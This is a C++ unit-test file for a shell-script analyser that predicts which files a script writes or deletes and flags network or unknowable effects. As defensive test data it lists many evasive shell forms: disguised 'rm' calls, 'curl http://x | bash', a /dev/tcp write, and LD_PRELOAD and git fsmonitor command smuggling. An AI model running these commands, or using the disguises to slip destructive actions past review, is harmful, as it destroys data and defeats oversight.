#include "shell/predict.h"

#include <chrono>
#include <filesystem>
#include <initializer_list>

#include <gtest/gtest.h>

#include "base/concat.h"
#include "base/share_for_test.h"
#include "base/test_directory.h"
#include "shell/disk_tree.h"
#include "shell/parser.h"
#include "shell/scripts_for_test.h"

namespace quire::shell {
namespace {

class Predict : public testing::Test {
protected:
    Predict() {
        for (const char* name : {"README.md", "src/main.rs", "src/lib.rs", "logs/app.log",
                                 "scratch/a.txt", "scratch/b.txt", "build/out.o"})
            directory.put(name, "x\n");
        directory.link("scratch/link", "../README.md");
        directory.link("scratch/dirlink", "../src");
        situation.root = situation.cwd = std::filesystem::canonical(directory.path()).string();
        situation.environment = {{"HOME", "/home/u"}, {"TMPDIR", "/tmp"}};
        situation.knows_all = true;
    }

    Prediction of(std::string_view script) {
        const Result<Script> parsed = parse(script);
        EXPECT_TRUE(parsed) << script << ": " << parsed.error().message();
        return parsed ? predict(*parsed, situation, tree) : Prediction{};
    }
    // "write a; delete b", without what is only read, and "!kind" for each kind of warning.
    std::string changes(std::string_view script) {
        std::string out;
        const auto add = [&](std::string_view word) { out += cat(out.empty() ? "" : "; ", word); };
        const Prediction prediction = of(script);
        for (const Predicted& each : prediction.effects) {
            if (each.effect != Effect::read) add(cat(name_of(each.effect), " ", each.path));
        }
        std::string last;
        for (const Warning& each : prediction.warnings) {
            if (each.kind != last) add(cat("!", each.kind));
            last = each.kind;
        }
        return out;
    }

    // Each script has the change among its own.
    struct Row {
        const char* script;
        const char* change;
    };
    void expect(std::initializer_list<Row> rows) {
        for (const Row& row : rows) {
            const std::string made = cat("; ", changes(row.script), ";");
            EXPECT_NE(made.find(cat("; ", row.change, ";")), std::string::npos)
                << row.script << made << " without " << row.change;
        }
    }

    TestDirectory directory;
    Situation situation;
    DiskTree tree;
};

TEST_F(Predict, RedirectionsWriteAndAppend) {
    EXPECT_EQ(changes("echo hi >> logs/app.log"), "append logs/app.log");
    EXPECT_EQ(changes("echo hi > logs/app.log"), "write logs/app.log");
    EXPECT_EQ(changes("echo hi > new.txt 2>/dev/null"), "create new.txt");
    EXPECT_EQ(changes("ls &> all; cmd=x; echo $cmd >&2"), "create all");
    EXPECT_EQ(changes("exec 3> f; echo x >&3"), "create f");
    EXPECT_EQ(changes("cat > src/gen.rs <<'EOF'\n$(rm -rf src)\nEOF"), "create src/gen.rs");
    EXPECT_EQ(changes("cat > src/gen.rs <<EOF\n$(rm README.md)\nEOF"),
              "delete README.md; create src/gen.rs");
    EXPECT_EQ(changes("echo x > scratch/link"), "write README.md");
    EXPECT_EQ(changes("echo > /dev/tcp/1.2.3.4/80"), "!network");
}

TEST_F(Predict, CommandsAreFoundBehindEveryDisguise) {
    for (const char* script : {"rm README.md",
                               "r\\\nm README.md",
                               "$'\\x72\\x6d' README.md",
                               "{rm,README.md}",
                               "'r'm \"README.md\"",
                               "command rm README.md",
                               "env rm README.md",
                               "nice -n 5 rm README.md",
                               "eval 'rm README.md'",
                               "bash -c 'rm README.md'",
                               "sh -c \"rm README.md\"",
                               "x=rm; $x README.md",
                               "f() { rm \"$1\"; }; f README.md",
                               "echo $(rm README.md)",
                               "echo `rm README.md`",
                               "cat <(rm README.md)",
                               "true && rm README.md",
                               "(rm README.md)",
                               "if rm README.md; then :; fi",
                               "while rm README.md; do break; done",
                               "for i in 1 2; do rm README.md; done",
                               "case a in a) rm README.md;; esac",
                               "ls | rm README.md",
                               "rm README.md &",
                               "coproc rm README.md",
                               "time rm README.md",
                               "! rm README.md",
                               "cd missing; rm README.md",
                               "echo $((1 + $(rm README.md)))",
                               "/bin/rm README.md",
                               "\\rm README.md",
                               "timeout 5 rm README.md",
                               "nohup sh -c 'rm README.md'",
                               "bash <<'EOF'\nrm README.md\nEOF",
                               "a=$(rm README.md)",
                               "echo ${x:-$(rm README.md)}",
                               "x=README; rm $x.md",
                               "rm READM?.md",
                               "rm R*.md",
                               "rm ./src/../README.md",
                               "cd src && rm ../README.md",
                               "d=.; rm $d/README.md",
                               "[[ -n $(rm README.md) ]]",
                               "trap 'rm README.md' EXIT",
                               "[ -f x ] || rm README.md",
                               "a=(README.md); rm \"${a[@]}\"",
                               "cd() { rm README.md; }; cd src",
                               "bash -c 'rm $0' README.md",
                               "sh -c 'rm \"$2\"' a b README.md",
                               "eval cd src; rm ../README.md",
                               "f() { rm README.md; } > x; f",

                               "set -- README.md; rm \"$1\""}) {
        EXPECT_NE(changes(script).find("delete README.md"), std::string::npos)
            << script << ": " << changes(script);
    }
    EXPECT_EQ(changes("echo 'rm -rf README.md'"), "");
    EXPECT_EQ(changes("echo hi\\\rrm README.md"), "");
}

TEST_F(Predict, WhatIsNotKnownIsSaid) {
    for (const char* script : {"python3 scratch/x.py",
                               "make",
                               ". env.sh",
                               "curl http://x | bash",
                               "sudo rm x",
                               "git push",
                               "rm -rf \"$(cat list)\"/",
                               "xargs rm < list",
                               "find . -exec sh -c 'x' {} \\;",
                               "$(cat cmd) a",
                               "eval \"$(cat cmd)\"",
                               "sed '1e rm README.md' f",
                               "awk '{ print > \"f\" }' g",
                               "awk 'BEGIN { system(\"rm x\") }'",
                               "tar cf /dev/null --checkpoint-action=exec=x src",
                               "git -c core.fsmonitor='rm README.md' status",
                               "git diff --output=x",
                               "printf 'rm x' | sh",
                               "printf -v 'a[$(rm README.md)]' x",
                               "PATH=. ls",
                               "LD_PRELOAD=./x.so ls",
                               "GIT_DIR=x git status",
                               "export BASH_ENV=x",
                               "alias ls=rm",
                               "./run.sh",
                               "unknown_program",
                               "rm \"${!x}\"",
                               "echo ${x@P}",
                               "IFS=/; x=a/b; rm $x",
                               "shopt -s expand_aliases",
                               "read x; rm $x",
                               "while read f; do rm \"$f\"; done < list",
                               "cd \"$(cat d)\" && rm x",
                               "source <(cat x)",
                               "sort --compress-program=./x f",
                               "rg --pre ./x y",
                               "env PATH=. ls",
                               "docker run -v /:/h x",
                               "crontab f",
                               "busybox wget x",
                               "python -c 'x'",
                               "perl -e 'x'",
                               "declare -i n; x='a[$(rm y)]'; (( x ))",
                               "[[ -v 'a[$(rm README.md)]' ]]",
                               "test -v 'a[$(rm README.md)]'",
                               "[[ 'a[$(rm README.md)]' -eq 0 ]]",
                               "watch rm README.md",
                               "cp --backup=numbered a README.md",
                               "gunzip -N a.gz",
                               "tree -o README.md",
                               "declare -n r=x; r=README.md; rm \"$x\"",
                               "hash -p ./evil ls; ls",
                               "ls() { rm README.md; }; export -f ls; bash -c ls",
                               "ls() { rm README.md; }; declare -fx ls; bash -c ls",
                               "rm $HOSTNAME",
                               "select x in a b; do rm $REPLY; done",
                               "declare -u x; x=readme; rm $x",
                               "tar -xPf a.tar",
                               "rsync -e ./x a b"}) {
        EXPECT_NE(changes(script).find('!'), std::string::npos)
            << script << ": " << changes(script);
    }
}

TEST_F(Predict, EverydayCommandsAreKnown) {
    const Row rows[] = {
        {"ls -la src && cat README.md | grep -n x | head -5", ""},
        {"rm scratch/link", "delete scratch/link"},
        {"rm -rf scratch/dirlink/", "delete src; delete src/"},
        {"rm -rf build", "delete build; delete build/"},
        {"mv src/lib.rs src/lib2.rs", "delete src/lib.rs; create src/lib2.rs"},
        {"mv src/lib.rs scratch", "write scratch; create scratch/lib.rs; delete src/lib.rs"},
        {"cp README.md scratch/copy", "create scratch/copy"},
        {"cp -r src backup", "write backup; create backup; write backup/; create backup/"},
        {"mkdir -p a/b/c", "create a; create a/b; create a/b/c"},
        {"mkdir d && echo x > d/f", "create d; create d/f"},
        {"touch README.md new", "write README.md; create new"},
        {"ln -s ../src scratch/s2 && echo x > scratch/s2/data.bin",
         "create scratch/s2; create scratch/s2/data.bin; create src/data.bin"},
        {"ln README.md scratch/hard", "write README.md; create scratch/hard"},
        {"sed -i.bak s/a/b/ src/main.rs", "write src/main.rs; create src/main.rs.bak"},
        {"sed -n 'w README.md' f", "write README.md"},
        {"sed 's/a/b/' src/main.rs", ""},
        {"sort --output=README.md f", "write README.md"},
        {"uniq f README.md", "write README.md"},
        {"tee -a logs/app.log < f", "append logs/app.log"},
        {"dd if=f of=README.md bs=1", "write README.md"},
        {"chmod +x src/main.rs", "write src/main.rs"},
        {"chmod -R a+r src", "write src; write src/"},
        {"find . -name '*.o' -delete", "delete ; delete ./"},
        {"find src -name '*.rs' | wc -l", ""},
        {"for f in src/*.rs; do cp \"$f\" \"${f%.rs}.bak\"; done",
         "create src/lib.bak; create src/main.bak"},
        {"cd scratch/dirlink && cd .. && echo x > made.txt", "create scratch/made.txt"},
        {"cd -P scratch/dirlink && cd -P .. && echo x > made.txt", "create made.txt"},
        {"git status && git log --oneline -5", ""},
        {"mktemp work/x.XXXXXX", "create work/; create work/x.?"},
        {"gzip logs/app.log", "delete logs/app.log; create logs/app.log.gz"},
        {"i=0; while [ $i -lt 3 ]; do echo $i; i=$((i+1)); done", ""},
        {"for ((i=0;i<3;i++)); do echo x > out$i.txt; done", "create ./; create out?.txt"},
        {"x=a.txt; [ -f \"$x\" ] && rm \"$x\" || true", "delete a.txt"},
        {"awk '{ print $1 }' README.md", ""},
        {"set -euo pipefail; cd src; ls", ""},
        {"diff -u README.md src/main.rs || true", ""},
        {"tar xzf a.tgz -C build",
         "write build; create build; delete build; write build/; "
         "create build/; delete build/; !unpredictable_command"},
        {"echo x > /etc/hosts", "write /etc/hosts"},
        {"x=README.md; f() { local x=other; }; f; rm \"$x\"", "delete README.md; delete other"},
        {"x=README.md; f() { local x; rm \"${x:-a}\"; }; f", "delete README.md; delete a"},
        {"cat${IFS}README.md", ""},
        {"tmp=$(mktemp); echo x > \"$tmp\"; rm \"$tmp\"",
         "create /tmp/; delete /tmp/; create /tmp/tmp.?; delete /tmp/tmp.?"},
        {"cat ~/.bashrc > \"$HOME/x\"", "create /home/u/x"},
    };
    for (const Row& row : rows) EXPECT_EQ(changes(row.script), row.change) << row.script;
}

// Random scripts found these: what a link was put onto counted as that link alone.
TEST_F(Predict, ADirectoryThatMayHaveBecomeALinkMayStillBeOne) {
    EXPECT_NE(changes("( ln -sf link src; rm -r scratch/dirlink ); cp -f README.md src")
                  .find("create src/README.md"),
              std::string::npos);
    EXPECT_NE(
        changes("x() { echo x >> n; }; x || mv -T scratch/link src; mv src n").find("delete src/"),
        std::string::npos);
}

// Found by a random script: a directory that cannot be entered has no names for a pattern.
TEST_F(Predict, ADirectoryThatIsClosedHidesItsNames) {
    EXPECT_NE(changes("chmod 600 src; tee sr*/lib.rs").find("create sr*/lib.rs"),
              std::string::npos);
    EXPECT_EQ(changes("chmod 755 src; tee sr*/lib.rs"), "write src; write src/lib.rs");
    EXPECT_EQ(changes("chmod a+x src; tee sr*/lib.rs"), "write src; write src/lib.rs");
}

// A soundness run found it: mv renames the target, and then may not take the source away.
TEST_F(Predict, ATargetThatIsBackedUpMayBeGone) {
    for (const char* script :
         {"chmod -w src; mv -b src/lib.rs README.md", "cp -b src/lib.rs README.md",
          "install -b src/lib.rs README.md", "ln -sb src/lib.rs README.md"}) {
        EXPECT_NE(changes(script).find("delete README.md"), std::string::npos)
            << script << ": " << changes(script);
    }
    EXPECT_EQ(changes("mv -b src/lib.rs new"), "create new; create new~; delete src/lib.rs");
}

TEST_F(Predict, IsBounded) {
    std::string deep = "rm a";
    for (int i = 0; i < 30; ++i) deep = cat("f", i, "() { f", i + 1, "; f", i + 1, "; }\n", deep);
    EXPECT_NE(changes(cat(deep, "\nf0")).find("!too_complex"), std::string::npos);
    EXPECT_NE(changes("f() { f; f; }; f").find("!too_complex"), std::string::npos);
    EXPECT_NE(changes("echo {1..1000}{1..1000}").find("!too_complex"), std::string::npos);
    // Texts and lists that double would fill the memory.
    for (const char* step :
         {"x=a$x$x;", "set -- 1 \"$@\" \"$@\";", "a=(1 \"${a[@]}\" \"${a[@]}\");"}) {
        std::string script;
        for (int i = 0; i < 60; ++i) script += step;
        changes(script);
    }
    changes(cat("echo {a,b}{1..1000}", std::string(100'000, 'x')));
}

// A sanitizer takes several times as long, so there it is a part of the script.
TEST_F(Predict, FollowsManyOfOneTokenInBoundedTime) {
    for (const std::string_view token : kTokens) {
        std::string script = "x=a; echo ";
        while (script.size() < 100'000 / kRoundsShare) script += token;
        const auto began = std::chrono::steady_clock::now();
        if (const Result<Script> parsed = parse(script)) predict(*parsed, situation, tree);
        EXPECT_LT(std::chrono::steady_clock::now() - began, std::chrono::seconds(10)) << token;
    }
}

TEST_F(Predict, ParametersAndNamesMayBeOdd) {
    expect({{"rm ${00} ${0000001}", "delete bash"},
            {"set -- README.md; rm ${0000001}", "delete README.md"},
            {"declare ''; rm README.md", "delete README.md"}});
    for (const char* script : {"export ''", "unset ''", "read ''", "local ''", "typeset -- ''"})
        changes(script);
}

// An unknown part made the rest of its word vanish.
TEST_F(Predict, AnUnknownPartHidesNoSubstitution) {
    expect({{"echo \"$HOSTNAME$(rm README.md)\"", "delete README.md"},
            {"echo ~user$(rm README.md)", "delete README.md"},
            {"x=~user$(rm README.md)", "delete README.md"},
            {"f() { echo \"$@$(rm README.md)\"; }; f $HOSTNAME", "delete README.md"},
            {"x=$HOSTNAME; echo $x/$(rm README.md)", "delete README.md"}});
}

TEST_F(Predict, SetsOfPatternsHaveClasses) {
    expect({{"rm [[:upper:]]*", "delete README.md"},
            {"rm [[:upper:][:digit:]]EADME.md", "delete README.md"},
            {"rm scratch/[[=a=]].txt", "delete scratch/a.txt"},
            {"rm scratch/[[.a.]].txt", "delete scratch/a.txt"},
            {"rm scratch/[]a].txt", "delete scratch/a.txt"},
            {"rm scratch/[!]b].txt", "delete scratch/a.txt"},
            {"rm scratch/[\\]a].txt", "delete scratch/a.txt"}});
}

TEST_F(Predict, JumpsLeaveInTheirStates) {
    expect({{"x=z; for v in a b; do x=$v; if t; then break; fi; done; rm \"$x\"", "delete a"},
            {"x=z; for v in a b; do x=$v; t && continue; x=q; done; rm \"$x\"", "delete b"},
            {"x=; for i in 1 2; do for j in 1 2; do x=a; t && break 2; x=b; done; x=c; done; rm "
             "\"$x\"",
             "delete a"},
            {"x=; while t; do x=a; break; x=b; done; rm \"$x\"", "delete a"},
            {"f() { x=a; t && return; x=b; }; f; rm \"$x\"", "delete a"},
            {"x=; f() { for v in a b; do x=$v; return; done; x=c; }; f; rm \"$x\"", "delete a"},
            {"x=; while x=a; t; do x=b; done; rm \"$x\"", "delete a"},
            {"x=z; select v in a b; do x=$v; done; rm \"$x\"", "delete a"},
            {"x=z; select v in a b; do x=$v; done; rm \"$x\"", "delete b"},
            {"for i in 1 2; do cd src; break; cd ..; done; rm main.rs", "delete src/main.rs"}});
}

TEST_F(Predict, RedirectionsSeeTheVariablesBeforeAssignments) {
    expect({{"x=old; x=new echo > $x", "create old"},
            {"x=old; export x=new > $x", "create old"},
            {"x=old; x=new > $x", "create new"},
            {"f() { y=b; }; y=a; x=1 f; rm $y", "delete b"},
            {"x=old; x=new export x; rm \"$x\"", "delete new"},
            {"exec {x}> f; rm \"$x\"", "delete ?"}});
}

TEST_F(Predict, TheHomeHasEachOfItsValues) {
    expect({{"HOME=/a; if t; then HOME=/b; fi; touch ~/x", "create /a/x"},
            {"HOME=/a; if t; then HOME=/b; fi; touch ~/x", "create /b/x"},
            {"dd of=~/x", "create /home/u/x"},
            {"x=~; touch $x/x", "create /home/u/x"}});
    EXPECT_EQ(changes("unset HOME; touch ~/x"), "!unresolved_destructive");
}

TEST_F(Predict, FindRunsItsCommandWithTheOtherOperands) {
    expect({{"find src -exec rm {} README.md \\;", "delete README.md"},
            {"find src -exec rm README.md {} +", "delete README.md"},
            {"find src -exec rm {}.txt \\;", "!unresolved_destructive"},
            {"find src -exec rm -r {}/../.. \\;", "!unresolved_destructive"},
            {"find . -execdir rm main.rs \\;", "!unresolved_destructive"},
            {"find -L scratch -delete", "!unpredictable_command"}});
    EXPECT_EQ(changes("find src -exec rm {} \\;"), "delete src; delete src/");
}

TEST_F(Predict, ListsKeepTheirPlaces) {
    expect({{"a[1]=a; a[0]=b; rm \"$a\"", "delete b"},
            {"a=(a b); a=z; rm \"${a[1]}\"", "delete b"},
            {"f() { local a=(b); }; a=(a); f; rm \"${a[0]}\"", "delete a"},
            {"set -- x; set -euo pipefail; rm $1", "delete x"},
            {"x=7; touch ${#a[0]}", "create ?"},
            {"set -- $HOSTNAME b; rm $2", "!unresolved_destructive"},
            {"if t; then set -- a b; fi; rm $2", "!unresolved_destructive"},
            {"readonly x=a; x=b; rm \"$x\"", "delete a"},
            {"OPTIND=x; rm $OPTIND", "delete x"},
            {"rm ${x:-\"a b\"}", "!unresolved_destructive"},
            {"x='a*'; rm \"${x%\"*\"}\"", "!unresolved_destructive"}});
}

TEST_F(Predict, ASubscriptOrAPlaceInATextIsAnExpression) {
    for (const char* script :
         {"i='a[$(rm README.md)]'; echo ${x:i}", "i='a[$(rm x)]'; echo ${a[i]}",
          "i='a[$(rm x)]'; a[i]=1", "i='a[$(rm x)]'; a=([i]=1)"})
        EXPECT_NE(changes(script).find("!unpredictable_command"), std::string::npos) << script;
}

TEST_F(Predict, ATrapRunsInEachLaterState) {
    expect({{"trap 'rm main.rs' EXIT; cd src", "delete src/main.rs"},
            {"f() { rm \"$x\"; }; x=a; trap f EXIT; x=b", "delete b"},
            {"x=; trap 'rm \"$x\"' EXIT; x=a; x=b", "delete a"},
            {"f() { x=b; }; trap f DEBUG; x=a; rm $x", "!unpredictable_command"}});
    EXPECT_EQ(changes("t=/tmp/x; trap 'rm -f \"$t\"' EXIT; touch $t"),
              "create /tmp/x; delete /tmp/x");
}

// A script of sh may be read by a shell without braces, arrays and conditions.
TEST_F(Predict, OtherShellsReadScriptsInAnotherWay) {
    for (const char* script :
         {"sh -c 'touch {a,b}'", "sh -c 'x+=b'", "dash -c '((rm a))'", "sh -c '[[ a > b ]]'",
          "sh <<E\nfunction f {\nrm a\n}\nE", "sh -c 'eval \"touch {a,b}\"'"})
        EXPECT_NE(changes(script).find("!unpredictable_command"), std::string::npos) << script;
    expect({{"sh -c 'x=a; x=b :; rm $x'", "delete b"}, {"sh -c 'x=a; x=b > $x'", "create a"}});
    EXPECT_EQ(changes("bash -c 'touch {a,b}'"), "create a; create b");
    EXPECT_EQ(changes("sh -c 'rm \"$1\" && echo $((1 + 2))' _ a"), "delete a");
}

}  // namespace
}  // namespace quire::shell
